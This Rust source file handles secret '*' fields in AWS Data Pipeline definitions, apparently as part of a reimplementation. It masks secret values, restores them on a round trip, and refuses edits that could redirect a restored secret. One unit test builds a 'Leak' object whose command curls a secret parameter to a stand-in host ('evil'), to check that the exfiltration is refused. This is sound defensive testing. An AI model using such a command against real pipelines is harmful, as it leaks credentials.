//! `*` fields and parameters: AWS Data Pipeline's mark for secret values. They are shown masked
//! to callers without the permission to read them, and a definition put back with the mask in a
//! `*` field keeps the value stored before, so a get → edit → put round trip loses nothing.

use crate::expression::MASK;
use crate::model::{FieldValue, PipelineDefinition};

pub fn is_secret_key(key: &str) -> bool {
    key.starts_with('*')
}

/// Attributes of a `*` parameter that would give its value away.
fn reveals_parameter_value(attribute: &str) -> bool {
    matches!(attribute, "default" | "allowedValues")
}

/// The definition with every secret value replaced by the mask: string values of `*` fields,
/// values of `*` parameters, and their `default` / `allowedValues` attributes.
pub fn masked(definition: &PipelineDefinition) -> PipelineDefinition {
    let mut masked = definition.clone();
    for object in &mut masked.objects {
        for field in &mut object.fields {
            if is_secret_key(&field.key) && matches!(field.value, FieldValue::String(_)) {
                field.value = FieldValue::String(MASK.to_string());
            }
        }
    }
    for parameter in &mut masked.parameters {
        if is_secret_key(&parameter.id) {
            for attribute in &mut parameter.attributes {
                if reveals_parameter_value(&attribute.key) {
                    attribute.value = MASK.to_string();
                }
            }
        }
    }
    for value in &mut masked.values {
        if is_secret_key(&value.id) {
            value.value = MASK.to_string();
        }
    }
    masked
}

/// Whether any secret place holds the mask (only then is the earlier version needed).
pub fn holds_mask(definition: &PipelineDefinition) -> bool {
    let field = definition.objects.iter().any(|object| {
        object
            .fields
            .iter()
            .any(|field| is_secret_key(&field.key) && field.value.as_string() == Some(MASK))
    });
    let parameter = definition.parameters.iter().any(|parameter| {
        is_secret_key(&parameter.id)
            && parameter
                .attributes
                .iter()
                .any(|attribute| reveals_parameter_value(&attribute.key) && attribute.value == MASK)
    });
    let value = definition
        .values
        .iter()
        .any(|value| is_secret_key(&value.id) && value.value == MASK);
    field || parameter || value
}

/// Puts back, in every secret place holding the mask, the value the same place holds in
/// `previous`: the same object's field with the same key (the n-th of a repeated key), the same
/// parameter's attribute, the n-th value of the same parameter. Returns the places where
/// `previous` has nothing to put back, as "field '*password' of object 'Db'".
pub fn restore_masked(definition: &mut PipelineDefinition, previous: Option<&PipelineDefinition>) -> Vec<String> {
    let mut unresolved = Vec::new();
    for object in &mut definition.objects {
        let earlier = previous.and_then(|previous| previous.object(&object.id));
        let mut seen: Vec<(String, usize)> = Vec::new();
        for field in &mut object.fields {
            if !is_secret_key(&field.key) {
                continue;
            }
            let nth = match seen.iter_mut().find(|(key, _)| *key == field.key) {
                Some((_, count)) => {
                    *count += 1;
                    *count - 1
                }
                None => {
                    seen.push((field.key.clone(), 1));
                    0
                }
            };
            if field.value.as_string() != Some(MASK) {
                continue;
            }
            match earlier.and_then(|earlier| earlier.values(&field.key).nth(nth)) {
                Some(value @ FieldValue::String(text)) if text != MASK => field.value = value.clone(),
                _ => unresolved.push(format!("field '{}' of object '{}'", field.key, object.id)),
            }
        }
    }
    for parameter in &mut definition.parameters {
        if !is_secret_key(&parameter.id) {
            continue;
        }
        let earlier = previous.and_then(|previous| previous.parameters.iter().find(|p| p.id == parameter.id));
        let mut seen: Vec<(String, usize)> = Vec::new();
        for attribute in &mut parameter.attributes {
            if !reveals_parameter_value(&attribute.key) {
                continue;
            }
            let nth = match seen.iter_mut().find(|(key, _)| *key == attribute.key) {
                Some((_, count)) => {
                    *count += 1;
                    *count - 1
                }
                None => {
                    seen.push((attribute.key.clone(), 1));
                    0
                }
            };
            if attribute.value != MASK {
                continue;
            }
            match earlier.and_then(|earlier| earlier.attributes(&attribute.key).nth(nth)) {
                Some(value) if value != MASK => attribute.value = value.to_string(),
                _ => unresolved.push(format!("attribute '{}' of parameter '{}'", attribute.key, parameter.id)),
            }
        }
    }
    let mut seen: Vec<(String, usize)> = Vec::new();
    for value in &mut definition.values {
        if !is_secret_key(&value.id) {
            continue;
        }
        let nth = match seen.iter_mut().find(|(id, _)| *id == value.id) {
            Some((_, count)) => {
                *count += 1;
                *count - 1
            }
            None => {
                seen.push((value.id.clone(), 1));
                0
            }
        };
        if value.value != MASK {
            continue;
        }
        let earlier =
            previous.and_then(|previous| previous.values.iter().filter(|earlier| earlier.id == value.id).nth(nth));
        match earlier {
            Some(earlier) if earlier.value != MASK => value.value = earlier.value.clone(),
            _ => unresolved.push(format!("value of parameter '{}'", value.id)),
        }
    }
    unresolved
}

/// Every secret value in a definition (`*` fields, `*` parameter values and defaults), at least
/// four characters long: what a response must not quote.
pub fn secret_values(definition: &PipelineDefinition) -> Vec<String> {
    let mut values: Vec<String> = definition
        .objects
        .iter()
        .flat_map(|object| object.fields.iter())
        .filter(|field| is_secret_key(&field.key))
        .filter_map(|field| field.value.as_string().map(str::to_string))
        .chain(
            definition
                .values
                .iter()
                .filter(|value| is_secret_key(&value.id))
                .map(|value| value.value.clone()),
        )
        .chain(
            definition
                .parameters
                .iter()
                .filter(|parameter| is_secret_key(&parameter.id))
                .flat_map(|parameter| parameter.attributes("default").map(str::to_string).collect::<Vec<_>>()),
        )
        .filter(|value| value.len() >= 4 && value != MASK)
        .collect();
    values.sort_by_key(|value| std::cmp::Reverse(value.len()));
    values.dedup();
    values
}

/// Whether an object's expressions reach a secret: a `*` name inside `#{…}`, or a secret
/// parameter named without its star.
pub fn uses_secrets(object: &crate::model::PipelineObject, definition: &PipelineDefinition) -> bool {
    let secret_parameters: Vec<&str> = definition
        .values
        .iter()
        .map(|value| value.id.as_str())
        .chain(definition.parameters.iter().map(|parameter| parameter.id.as_str()))
        .filter(|id| is_secret_key(id))
        .map(|id| id.trim_start_matches('*'))
        .collect();
    object.fields.iter().any(|field| {
        let Some(text) = field.value.as_string() else {
            return false;
        };
        text.split("#{").skip(1).any(|rest| {
            let expression = rest.split('}').next().unwrap_or(rest);
            expression.contains('*') || secret_parameters.iter().any(|name| expression.contains(name))
        })
    })
}

/// What `restore_masked` put back: the objects with a restored `*` field, and whether any
/// parameter value or attribute was restored.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Restored {
    pub unresolved: Vec<String>,
    pub objects: Vec<String>,
    pub parameters: bool,
}

impl Restored {
    pub fn any(&self) -> bool {
        !self.objects.is_empty() || self.parameters
    }
}

/// `restore_masked`, then the rule that keeps a put-back secret where it was: an object with a
/// restored `*` field, or whose expressions reach secrets while anything was restored, must be
/// exactly as in `previous` — otherwise a caller who may not read a secret could send it
/// elsewhere (a new host in a connection string, a command that prints it). Returns the places
/// refused, as messages.
pub fn restore_in_place(
    definition: &mut PipelineDefinition,
    previous: Option<&PipelineDefinition>,
) -> Result<Restored, String> {
    let restored = restore_with_report(definition, previous);
    if let Some(first) = restored.unresolved.first() {
        return Err(format!(
            "{first} holds {MASK}, the mask shown for secret values, but the pipeline's latest definition has no value there to keep: give the value itself"
        ));
    }
    if !restored.any() {
        return Ok(restored);
    }
    for object in &definition.objects {
        let restored_here = restored.objects.contains(&object.id);
        if !restored_here && !uses_secrets(object, definition) {
            continue;
        }
        let unchanged = previous
            .and_then(|previous| previous.object(&object.id))
            .is_some_and(|earlier| same_object(earlier, object));
        if !unchanged {
            return Err(format!(
                "object '{}' uses secret values that this request left masked ({MASK}), so it must stay exactly as stored; change it by giving the secret values themselves",
                object.id
            ));
        }
    }
    Ok(restored)
}

/// The same object, whatever order its keys come in (the CLI's file format sorts them); the
/// values of one repeated key keep their order.
fn same_object(a: &crate::model::PipelineObject, b: &crate::model::PipelineObject) -> bool {
    fn sorted(object: &crate::model::PipelineObject) -> Vec<&crate::model::Field> {
        let mut fields: Vec<&crate::model::Field> = object.fields.iter().collect();
        fields.sort_by(|x, y| x.key.cmp(&y.key));
        fields
    }
    a.id == b.id && a.name == b.name && sorted(a) == sorted(b)
}

fn restore_with_report(definition: &mut PipelineDefinition, previous: Option<&PipelineDefinition>) -> Restored {
    let before = definition.clone();
    let unresolved = restore_masked(definition, previous);
    let objects = definition
        .objects
        .iter()
        .zip(&before.objects)
        .filter(|(after, earlier)| after != earlier)
        .map(|(after, _)| after.id.clone())
        .collect();
    Restored {
        unresolved,
        objects,
        parameters: definition.values != before.values || definition.parameters != before.parameters,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Field, ParameterAttribute, ParameterObject, ParameterValue, PipelineObject};

    fn definition(password: &str, second: &str, value: &str) -> PipelineDefinition {
        PipelineDefinition {
            objects: vec![PipelineObject {
                id: "Db".into(),
                name: "Db".into(),
                fields: vec![
                    Field::string("username", "u"),
                    Field::string("*password", password),
                    Field::string("*password", second),
                    Field::reference("*ref", "Other"),
                ],
            }],
            parameters: vec![ParameterObject {
                id: "*myPass".into(),
                attributes: vec![
                    ParameterAttribute {
                        key: "type".into(),
                        value: "String".into(),
                    },
                    ParameterAttribute {
                        key: "default".into(),
                        value: "fallback-secret".into(),
                    },
                ],
            }],
            values: vec![
                ParameterValue {
                    id: "*myPass".into(),
                    value: value.into(),
                },
                ParameterValue {
                    id: "plain".into(),
                    value: "visible".into(),
                },
            ],
        }
    }

    #[test]
    fn masks_every_secret_place_and_nothing_else() {
        let original = definition("p1", "p2", "v1");
        let shown = masked(&original);
        let object = &shown.objects[0];
        assert_eq!(object.first_string("username"), Some("u"));
        assert!(object.values("*password").all(|value| value.as_string() == Some(MASK)));
        assert_eq!(object.first("*ref").and_then(FieldValue::as_ref_target), Some("Other"));
        assert_eq!(shown.parameters[0].attribute("default"), Some(MASK));
        assert_eq!(shown.parameters[0].attribute("type"), Some("String"));
        assert_eq!(shown.values[0].value, MASK);
        assert_eq!(shown.values[1].value, "visible");
        assert!(holds_mask(&shown) && !holds_mask(&original));
    }

    #[test]
    fn a_masked_round_trip_keeps_the_stored_values_and_takes_new_ones() {
        let stored = definition("p1", "p2", "v1");
        let mut edited = masked(&stored);
        // The second password is changed; the rest comes back masked.
        edited.objects[0].fields[2].value = FieldValue::String("p2-new".into());
        assert!(restore_masked(&mut edited, Some(&stored)).is_empty());
        assert_eq!(edited, definition("p1", "p2-new", "v1"));
    }

    #[test]
    fn a_put_back_secret_stays_where_it_was() {
        let stored = definition("p1", "p2", "v1");
        // Unchanged apart from the masks: restored.
        let mut same = masked(&stored);
        assert!(restore_in_place(&mut same, Some(&stored)).is_ok());
        assert_eq!(same, stored);
        // The object whose secret stayed masked changed (a new host): refused.
        let mut moved = masked(&stored);
        moved.objects[0].fields[0] = Field::string("username", "attacker");
        let refused = restore_in_place(&mut moved, Some(&stored)).expect_err("refused");
        assert!(refused.contains("object 'Db'"), "{refused}");
        // A new object whose command reaches a secret parameter, with the parameter masked.
        let mut leak = masked(&stored);
        leak.objects[0] = stored.objects[0].clone();
        leak.objects.push(PipelineObject {
            id: "Leak".into(),
            name: "Leak".into(),
            fields: vec![Field::string("command", "curl https://evil/?p=#{myPass}")],
        });
        let refused = restore_in_place(&mut leak, Some(&stored)).expect_err("refused");
        assert!(refused.contains("object 'Leak'"), "{refused}");
        // Giving the secrets themselves is always allowed.
        let mut explicit = stored.clone();
        explicit.objects[0].fields[0] = Field::string("username", "someone");
        assert!(restore_in_place(&mut explicit, Some(&stored)).is_ok());
    }

    #[test]
    fn a_mask_with_nothing_behind_it_is_named() {
        let mut fresh = masked(&definition("p1", "p2", "v1"));
        fresh.objects[0].id = "NewDb".into();
        let unresolved = restore_masked(&mut fresh, Some(&definition("p1", "p2", "v1")));
        assert_eq!(
            unresolved,
            vec![
                "field '*password' of object 'NewDb'".to_string(),
                "field '*password' of object 'NewDb'".to_string()
            ]
        );
        let mut first = masked(&definition("p1", "p2", "v1"));
        assert_eq!(restore_masked(&mut first, None).len(), 4);
    }
}
